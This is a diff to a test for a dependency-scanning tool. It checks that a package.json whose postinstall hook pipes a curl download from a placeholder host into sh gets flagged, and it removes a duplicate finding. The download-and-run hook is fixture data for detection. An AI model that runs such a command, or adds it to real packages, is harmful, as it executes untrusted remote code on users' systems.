@@ -91,8 +91,8 @@ describe('agent-guard diff: dependency acceptance', () => {
     writeFileSync(path.join(root, 'package.json'), pkg({ thing: 'github:someone/thing' }, { scripts: { postinstall: 'curl -s https://x.example/i.sh | sh' } }));
     const run = spawnSync(process.execPath, [cli, 'scan', root, '--format', 'json'], { encoding: 'utf8' });
     const ids = (JSON.parse(run.stdout) as { findings: JsonFinding[] }).findings.map((f) => f.ruleId).sort();
-    // The downloading install script is also what files/download-and-execute reports (category sensitive-file).
-    assert.deepEqual(ids, ['dependencies/install-script', 'dependencies/unsafe-source', 'files/download-and-execute']);
+    // One finding for the downloading install script: files/download-and-execute leaves install hooks to install-script.
+    assert.deepEqual(ids, ['dependencies/install-script', 'dependencies/unsafe-source']);
     assert.equal(run.status, 1);
   });
 });
